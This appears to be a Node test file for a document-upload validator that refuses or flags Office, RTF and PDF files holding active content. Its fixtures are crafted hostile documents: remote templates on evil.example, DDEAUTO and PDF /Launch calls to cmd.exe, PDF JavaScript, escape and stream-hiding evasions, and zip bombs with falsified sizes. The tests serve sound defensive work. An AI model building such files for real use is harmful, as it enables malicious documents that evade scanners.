import assert from 'node:assert/strict'
import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { deflateSync } from 'node:zlib'
import { listDocumentsOfMentee } from '#contract/documents.ts'
import { officeFile, openDocumentFile, pdfOf, pdfStream, relationships, zipOf } from '../testing/archives.ts'
import { stage } from '../testing/stage.ts'
import { upload } from '../testing/upload.ts'

const world = await stage()

const share = (name: string, content: Buffer, where = world) =>
  upload(where, 'max', [
    ['menteeId', String(where.ids.eva)],
    ['file', new File([new Uint8Array(content)], name)],
  ])

const catalogue = '<< /Type /Catalog /Pages 2 0 R >>'
const pages = '<< /Type /Pages /Kids [] /Count 0 >>'
const rels = (...all: Parameters<typeof relationships>) => ({
  'word/_rels/document.xml.rels': relationships(...all),
})
const settings = (target: string) => ({
  'word/_rels/settings.xml.rels': relationships(['attachedTemplate', target, 'External']),
})
const field = (...pieces: string[]) => ({
  'word/document.xml': `<w:document>${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')}</w:document>`,
})
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
/** Objects in a stream, as most programs write them. */
const objectStream = (
  objects: Record<number, string>,
  dictionary = '/Filter /FlateDecode',
  pack: (bytes: Buffer) => Buffer = (bytes) => deflateSync(bytes),
) => {
  const numbers = Object.keys(objects)
  const texts = Object.values(objects)
  const places = texts.map((_, index) => texts.slice(0, index).join(' ').length + (index > 0 ? 1 : 0))
  const head = `${numbers.map((number, index) => `${number} ${places[index]}`).join(' ')} `
  const plain = Buffer.from(head + texts.join(' '), 'latin1')
  return pdfStream(`/Type /ObjStm /N ${numbers.length} /First ${head.length} ${dictionary}`, pack(plain))
}
const asIs = (bytes: Buffer) => bytes

const active: Record<string, [name: string, content: Buffer | Promise<Buffer>, what: RegExp]> = {
  'a Word file with a template on the web': [
    'a.docx',
    officeFile('docx', settings('https://evil.example/t.dotm')),
    /a template from elsewhere/,
  ],
  'a Word file with a template on somebody else\u2019s server': [
    'a.docx',
    officeFile('docx', settings('file:///\\\\evil.example\\t.dotm')),
    /a template from elsewhere/,
  ],
  'a Word file whose relationships are written in UTF-16': [
    'a.docx',
    officeFile('docx', {
      'word/_rels/settings.xml.rels': Buffer.from(
        `\uFEFF${settings('https://evil.example/t.dotm')['word/_rels/settings.xml.rels']}`,
        'utf16le',
      ),
    }),
    /a template from elsewhere/,
  ],
  'a Word file whose relationship is spelt in escapes': [
    'a.docx',
    officeFile('docx', {
      'word/_rels/settings.xml.rels':
        "<r:Relationships><r:Relationship TargetMode='&#x45;xternal' Type='x/attachedTemplate' Target='&#104;ttp://evil.example/t'\n></r:Relationship></r:Relationships>",
    }),
    /a template from elsewhere/,
  ],
  'a Word file with entities of its own': [
    'a.docx',
    officeFile('docx', { 'word/_rels/x.rels': '<!DOCTYPE a [<!ENTITY b "External">]><Relationships/>' }),
    /cannot be read/,
  ],
  'a Word file with a picture from the web': [
    'a.docx',
    officeFile('docx', rels(['image', 'https://evil.example/pixel.png', 'External'])),
    /loaded from elsewhere/,
  ],
  'a Word file with an embedded object': [
    'a.docx',
    officeFile('docx', { 'word/embeddings/oleObject1.bin': 'x' }),
    /an embedded object/,
  ],
  'a Word file with a linked object': [
    'a.docx',
    officeFile('docx', rels(['oleObject', 'file:///C:\\x.xlsx', 'External'])),
    /an embedded object/,
  ],
  'a Word file with ActiveX': [
    'a.docx',
    officeFile('docx', { 'word/activeX/activeX1.xml': '<a/>' }),
    /ActiveX/,
  ],
  'a Word file with a field in pieces that starts a program': [
    'a.docx',
    officeFile('docx', field(' DD', 'EAUTO c:\\\\windows\\\\cmd.exe ')),
    /another program/,
  ],
  'an Excel file with a link to a program': [
    'a.xlsx',
    officeFile('xlsx', {
      'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
    }),
    /another program/,
  ],
  'an Excel file with macros': [
    'a.xlsx',
    officeFile('xlsx', { 'xl/macrosheets/sheet1.xml': '<a/>' }),
    /macros/,
  ],
  'a PowerPoint file with an embedded program': [
    'a.pptx',
    officeFile('pptx', { 'ppt/embeddings/tool.exe': 'MZ' }),
    /an embedded object/,
  ],
  'an OpenDocument text with macros': [
    'a.odt',
    openDocumentFile(undefined, { 'Basic/Standard/Module1.xml': '<a/>' }),
    /macros/,
  ],
  'an OpenDocument text with scripts': [
    'a.odt',
    openDocumentFile(undefined, { 'Scripts/python/a.py': 'x' }),
    /macros/,
  ],
  'an OpenDocument text that calls a macro when it is opened': [
    'a.odt',
    openDocumentFile(
      '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.b?language=Basic"/>',
    ),
    /macros/,
  ],
  'an OpenDocument text with an embedded object': [
    'a.odt',
    openDocumentFile('<draw:object-ole xlink:href="./Object 1"/>'),
    /an embedded object/,
  ],
  'a rich text with an object': [
    'a.rtf',
    Buffer.from('{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}'),
    /an embedded object/,
  ],
  'a rich text with a template on the web': [
    'a.rtf',
    Buffer.from('{\\rtf1 {\\*\\template http://evil.example/t.dotm}}'),
    /a template from elsewhere/,
  ],
  'a rich text with an object across the end of a piece': [
    'a.rtf',
    Buffer.from(`{\\rtf1 ${'x'.repeat(64 * 1024 - 12)}{\\object\\objemb}}`),
    /an embedded object/,
  ],
  'a PDF with JavaScript': ['a.pdf', pdfOf(catalogue, pages, script), /JavaScript/],
  'a PDF with JavaScript in escapes': [
    'a.pdf',
    pdfOf(catalogue, pages, '<< /S /#4aav#61Script /J#53 (x) >>'),
    /JavaScript/,
  ],
  'a PDF with JavaScript among packed objects': [
    'a.pdf',
    pdfOf(catalogue, pages, objectStream({ 4: script })),
    /JavaScript/,
  ],
  'a PDF with JavaScript among objects in a stream that is not packed': [
    'a.pdf',
    pdfOf(catalogue, pages, objectStream({ 4: script }, '', asIs)),
    /JavaScript/,
  ],
  'a PDF with packed objects that cannot be read': [
    'a.pdf',
    pdfOf(catalogue, pages, objectStream({ 4: script }, '/Filter /FlateDecode', asIs)),
    /cannot be looked through/,
  ],
  'a PDF with objects that are packed twice': [
    'a.pdf',
    pdfOf(catalogue, pages, objectStream({ 4: script }, '/Filter [/ASCIIHexDecode /FlateDecode]')),
    /cannot be looked through/,
  ],
  'a PDF whose packed objects unpack without end': [
    'a.pdf',
    pdfOf(catalogue, pages, objectStream({ 4: ' '.repeat(80 * 1024 * 1024) })),
    /cannot be looked through/,
  ],
  'a PDF of more words than can be looked through': [
    'a.pdf',
    pdfOf(catalogue, pages, 'a '.repeat(5_000_000)),
    /cannot be looked through/,
  ],
  'a PDF that starts a program': [
    'a.pdf',
    pdfOf(catalogue, pages, '<< /S /Launch /F (cmd.exe) >>'),
    /another program/,
  ],
  'a PDF with a file in it': [
    'a.pdf',
    pdfOf(catalogue, pages, pdfStream('/Type /EmbeddedFile', Buffer.from('MZ'))),
    /an embedded file/,
  ],
  'a PDF that opens a page on the web': [
    'a.pdf',
    pdfOf('<< /Type /Catalog /OpenAction << /S /URI /URI (https://evil.example) >> >>', pages),
    /opened by itself/,
  ],
  'a PDF that opens a page on the web by a packed object': [
    'a.pdf',
    pdfOf(
      '<< /Type /Catalog /OpenAction 9 0 R >>',
      pages,
      objectStream({ 8: '<< /S /GoTo /D (a) >>', 9: '<< /S /URI /URI (https://evil.example) >>' }),
    ),
    /opened by itself/,
  ],
  'a PDF that hides an object behind a stream in a comment': [
    'a.pdf',
    pdfOf(catalogue, `${pages} % << >> stream`, script, pdfStream('', Buffer.from('x'))),
    /JavaScript/,
  ],
  'a PDF that hides an object behind a stream without an end': [
    'a.pdf',
    pdfOf(catalogue, pages, '<< /Length 1 >>\nstream\nx', script, pdfStream('', Buffer.from('x'))),
    /JavaScript/,
  ],
}

for (const [what, [name, content, reason]] of Object.entries(active))
  test(`${what} is refused with what to do, and nothing is left of it`, async () => {
    const answer = await share(name, await content)

    assert.equal(answer.statusCode, 400, answer.body)
    const { file } = answer.json().fields
    assert.match(file, /^This document holds active content \(.+\)\. Save it without, or as a plain PDF/)
    assert.match(file, reason)
    assert.deepEqual(readdirSync(join(world.dataDir, 'tmp')), [])
  })

const ordinary: Record<string, [name: string, content: Buffer | Promise<Buffer>]> = {
  'a letter with links and the template of its author': [
    'a.docx',
    officeFile('docx', {
      ...rels(['hyperlink', 'https://www.nhs.uk/', 'External'], ['image', 'media/image1.png']),
      ...settings('file:///C:\\Users\\ada\\Templates\\Letter.dotx'),
      ...field(' HYPERLINK "https://www.nhs.uk/" ', ' PAGE '),
    }),
  ],
  'a table with a chart and other workbooks': [
    'a.xlsx',
    officeFile('xlsx', {
      'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="rId1"/></externalLink>',
      'xl/externalLinks/_rels/externalLink1.xml.rels': relationships([
        'externalLinkPath',
        'Rota.xlsx',
        'External',
      ]),
      'xl/printerSettings/printerSettings1.bin': 'x',
    }),
  ],
  'slides with a chart and a film': [
    'a.pptx',
    officeFile('pptx', {
      'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK',
      'ppt/slides/_rels/slide1.xml.rels': relationships(['video', 'https://video.example/1', 'External']),
    }),
  ],
  'an OpenDocument text with links, a picture and a template': [
    'a.odt',
    openDocumentFile(
      '<text:a xlink:href="https://www.nhs.uk/">NHS</text:a><draw:image xlink:href="Pictures/1.png" xlink:actuate="onLoad"/>',
      { 'Object 1/content.xml': '<office:document-content/>', 'Configurations2/images/a.xml': '' },
    ),
  ],
  'a rich text with a link and a template': [
    'a.rtf',
    Buffer.from(
      '{\\rtf1 {\\*\\template C:\\\\Letter.dot}{\\field{\\*\\fldinst HYPERLINK "https://www.nhs.uk/"}}}',
    ),
  ],
  'a PDF with links that wait for a click': [
    'a.pdf',
    pdfOf(
      '<< /Type /Catalog /OpenAction [3 0 R /Fit] /Pages 2 0 R >>',
      pages,
      '<< /Type /Page /Annots [<< /Subtype /Link /A << /S /URI /URI (https://www.nhs.uk/ /JS) >> >>] >>',
      pdfStream('/Filter /DCTDecode', Buffer.from('\xff\xd8 /JS /Launch \x00', 'latin1')),
    ),
  ],
  'a PDF that opens at a page, with links among packed objects': [
    'a.pdf',
    pdfOf(
      '<< /Type /Catalog /OpenAction 8 0 R >>',
      pages,
      objectStream({ 8: '<< /S /GoTo /D [3 0 R /Fit] >>', 9: '<< /S /URI /URI (https://www.nhs.uk/) >>' }),
    ),
  ],
}

for (const [what, [name, content]] of Object.entries(ordinary))
  test(`${what} is an ordinary document`, async () => {
    const answer = await share(name, await content)

    assert.equal(answer.statusCode, 201, answer.body)
    assert.equal(answer.json().active_content, null)
  })

test('where active content is marked, everybody who sees the document reads what it holds', async () => {
  const marking = await stage({ activeContent: 'mark' })

  const answer = await share('a.pdf', pdfOf(catalogue, pages, script), marking)

  assert.equal(answer.statusCode, 201, answer.body)
  for (const who of ['max', 'eva', 'nora'] as const) {
    const [document] = await marking
      .as(who)
      .call(listDocumentsOfMentee, { params: { menteeId: marking.ids.eva } })
    assert.equal(document?.active_content, 'JavaScript')
  }
  const entries = await marking.recorded(10)
  const shared = entries.find(({ action }) => action === 'document.created')
  assert.match(shared?.details ?? '', /, which holds active content: JavaScript$/)
})

/** A Word file, one of whose parts says that it is larger or smaller than it is. */
async function lyingFile(part: string, content: string, declaredSize: number): Promise<Buffer> {
  const bytes = await officeFile('docx', { [part]: content })
  const central = Buffer.from([0x50, 0x4b, 1, 2])
  for (let at = bytes.indexOf(central); at !== -1; at = bytes.indexOf(central, at + 4))
    if (bytes.toString('latin1', at + 46, at + 46 + part.length) === part)
      bytes.writeUInt32LE(declaredSize, at + 24)
  return bytes
}

const dishonest: Record<string, Promise<Buffer>> = {
  'is far larger than it says': lyingFile('word/media/image1.png', 'x'.repeat(50_000_000), 1_000_000),
  'is smaller than it says': lyingFile('word/media/image1.png', 'x', 100),
  'is a bomb that says so': officeFile('docx', { 'word/media/image1.png': 'x'.repeat(150_000_000) }),
  'holds two parts of one name': officeFile('docx', {
    'word/styles.xml': '<a/>',
    'word/STYLES.xml': '<a/>',
  }),
}

for (const [what, content] of Object.entries(dishonest))
  test(`an archive that ${what} is refused`, async () => {
    const answer = await share('a.docx', await content)

    assert.equal(answer.statusCode, 400, answer.body)
    assert.match(answer.json().message, /not what its name says/)
    assert.deepEqual(readdirSync(join(world.dataDir, 'tmp')), [])
  })

test('an archive in an archive is but bytes', async () => {
  const inner = await zipOf({ 'a.txt': 'x'.repeat(1_000) })

  const answer = await share('a.docx', await officeFile('docx', { 'word/media/inner.zip': inner }))

  assert.equal(answer.statusCode, 201, answer.body)
})
